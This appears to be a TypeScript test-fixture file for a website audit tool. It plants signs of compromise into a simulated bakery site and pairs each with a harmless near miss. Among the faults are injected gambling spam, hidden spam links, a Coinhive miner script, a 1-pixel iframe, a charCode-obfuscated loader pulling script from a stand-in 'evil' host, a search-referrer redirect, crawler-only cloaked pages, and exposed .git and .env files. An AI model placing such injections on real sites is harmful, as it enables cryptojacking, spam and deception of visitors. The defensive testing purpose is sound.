import {
  ABOUT,
  type AccuracyCase,
  add,
  at,
  bodyOf,
  CHAIN,
  CITY,
  edit,
  full,
  HOME,
  main,
  TOUR,
  TYRES,
} from "./planting.ts";
import { missing, type World } from "./world.ts";

const CASINO =
  "Daftar situs slot gacor dengan bonus new member, judi online dan togel terpercaya, jackpot setiap hari.";
const SPAM_LINKS = [
  "cheap-tabs.example",
  "roulette-win.example",
  "bagreplica.example",
  "fastloan.example",
  "essay-pro.example",
];

function spelled(text: string): string {
  return `String.fromCharCode(${[...text].map((letter) => letter.charCodeAt(0)).join(", ")})`;
}

/** What only crawlers are shown on a page. */
function toCrawlers(w: World, path: string, html: string): void {
  at(w, path).byAgent = { Googlebot: { status: 200, body: html } };
}

/** Links that are not shown, to other sites. */
function unseen(texts: readonly string[], hosts: readonly string[]): string {
  const links = hosts.map((host, index) => `<a href="https://${host}/">${texts[index % texts.length]}</a>`).join(" ");
  return `<div style="position:absolute;left:-9999px">${links}</div>`;
}

/** What somebody who broke in leaves behind, and the doors left open. */
export const BREACH_CASES: AccuracyCase[] = [
  {
    rule: "injected_spam",
    fault: (w) => {
      for (let n = 1; n <= 5; n++) {
        add(
          w,
          `/slot/gacor-${n}/`,
          `<!doctype html><html lang="id"><title>Slot gacor ${n}</title><h1>Slot gacor maxwin ${n}</h1><p>${CASINO.repeat(3)}</p></html>`,
        );
        edit(w, "/sitemap.xml", ["</urlset>", `<url><loc>${full(`/slot/gacor-${n}/`)}</loc></url></urlset>`]);
      }
    },
    nearMiss: (w) =>
      main(w, CHAIN, "<p>The slot in the frame takes the lock; a jackpot of luck if it fits at once.</p>"),
  },
  {
    rule: "injected_spam",
    fault: (w) => edit(w, ABOUT, [/<h1>[^<]*/, "<h1>Hacked by Gh0st Team"]),
    nearMiss: (w) => edit(w, ABOUT, [/<h1>[^<]*/, "<h1>Who we are, and how a bakery was hacked"]),
  },
  {
    rule: "injected_spam",
    fault: (w) =>
      main(w, TYRES, unseen(["vorteilhafte Uhren kaufen", "crédit sans refus", "bolsos de imitación"], SPAM_LINKS)),
    nearMiss: (w) =>
      main(
        w,
        TYRES,
        unseen(
          ["Folgen Sie uns auf Facebook", "Unser Kanal auf YouTube", "Bilder auf Instagram", "Stellen auf Linkedin"],
          ["facebook.com", "youtube.com", "instagram.com", "linkedin.com"],
        ),
      ),
  },
  {
    rule: "injected_spam",
    fault: (w) =>
      main(
        w,
        CITY,
        "<script src='https://coinhive.com/lib/coinhive.min.js'></script><script>new CoinHive.Anonymous('k').start()</script>",
      ),
    nearMiss: (w) =>
      main(w, CITY, "<p>Der Dienst <a href='https://coinhive.com/'>Coinhive</a> ließ Besucher rechnen.</p>"),
  },
  {
    rule: "injected_spam",
    fault: (w) =>
      main(w, TOUR, '<iframe src="https://zaehler-x.example/in.php" width="1" height="1" title="x"></iframe>'),
    nearMiss: (w) =>
      main(
        w,
        TOUR,
        '<iframe src="https://www.youtube.com/embed/a" width="560" height="315" title="Film"></iframe><iframe src="https://123.fls.doubleclick.net/x" width="1" height="1" style="display:none" title="x"></iframe>',
      ),
  },
  {
    rule: "injected_spam",
    fault: (w) =>
      main(
        w,
        ABOUT,
        `<script>var s=document.createElement('script');s.src=${spelled("https://track.evil.example/x.js")};document.head.append(s)</script>`,
      ),
    nearMiss: (w) => main(w, ABOUT, `<script>document.write(${spelled("mailto:backstube@muehle.example")})</script>`),
  },
  {
    rule: "injected_spam",
    fault: (w) =>
      main(
        w,
        ABOUT,
        "<script>if(/google|bing|yandex/.test(document.referrer)){}if(document.referrer.indexOf('google.')>0){window.location.href='https://gewinn.example/'}</script>",
      ),
    nearMiss: (w) =>
      main(
        w,
        ABOUT,
        `<script>if(document.referrer.indexOf('google.')>0){window.location.href='${full(CITY)}'}</script>`,
      ),
  },
  {
    rule: "cloaked_pages",
    fault: (w) =>
      toCrawlers(
        w,
        HOME,
        bodyOf(w, HOME).replace(
          "</main>",
          `${SPAM_LINKS.map((host) => `<a href="https://${host}/">günstig kaufen</a>`).join("")}</main>`,
        ),
      ),
    nearMiss: (w) =>
      toCrawlers(
        w,
        HOME,
        bodyOf(w, HOME).replace("</main>", "<p>Heute ist Dienstag, und die Werkstatt ist offen.</p></main>"),
      ),
  },
  {
    rule: "cloaked_pages",
    fault: (w) =>
      toCrawlers(
        w,
        HOME,
        `<!doctype html><html lang="id"><title>Slot gacor</title><h1>Slot</h1><p>${CASINO.repeat(2)} ${words()}</p>`,
      ),
    // Rendered for crawlers, filled by scripts for browsers.
    nearMiss: (w) => {
      toCrawlers(w, HOME, bodyOf(w, HOME));
      at(w, HOME).byAgent.Chrome = {
        status: 200,
        body: '<!doctype html><title>App</title><div id="root"></div><script src="/app.js"></script>',
      };
    },
  },
  {
    rule: "exposed_files",
    fault: (w) => add(w, "/.git/HEAD", "ref: refs/heads/produktion\n", { "content-type": "application/octet-stream" }),
    nearMiss: (w) => {
      w.unknown = {
        ...missing(),
        status: 200,
        body: "<!doctype html><title>ref: refs/heads</title><p>Seite nicht gefunden",
      };
    },
  },
  {
    rule: "exposed_files",
    fault: (w) => add(w, "/.env", "APP_NAME=muehle\nDB_PASSWORD=geheim\n", { "content-type": "text/plain" }),
    nearMiss: (w) =>
      add(w, "/.env", "<!doctype html><p>DB_PASSWORD = nicht hier</p>\nDB_PASSWORD=x", { "content-type": "text/html" }),
  },
  {
    rule: "directory_listing",
    fault: (w) =>
      add(
        w,
        "/img/",
        '<html><head><title>Index of /img</title></head><body><h1>Index of /img</h1><pre><a href="../">Parent Directory</a></pre></body></html>',
      ),
    nearMiss: (w) =>
      add(w, "/img/", "<!doctype html><title>Index of our pictures</title><p>Bilder aus der Werkstatt</p>"),
  },
  {
    rule: "error_text",
    fault: (w) => {
      at(w, CITY).body =
        `<br />\n<b>Warning</b>:  Undefined array key "preis" in <b>/var/www/muehle/preis.php</b> on line <b>12</b><br />\n${bodyOf(w, CITY)}`;
    },
    nearMiss: (w) =>
      main(
        w,
        CITY,
        "<p>Warning: the chain may pinch fingers. Read on in /help/safety on line.</p><pre>Warning: Undefined variable $a in /srv/a.php on line 3</pre>",
      ),
  },
  {
    rule: "error_text",
    fault: (w) =>
      main(
        w,
        TOUR,
        "<div>You have an error in your SQL syntax; check the manual that corresponds to your MariaDB server version for the right syntax to use near '' at line 1</div>",
      ),
    nearMiss: (w) =>
      main(w, TOUR, "<p>Ein Fehler in der SQL-Abfrage? We look at the manual of your MariaDB server together.</p>"),
  },
];

function words(): string {
  return Array.from({ length: 60 }, (_, index) => `permainan${index}`).join(" ");
}
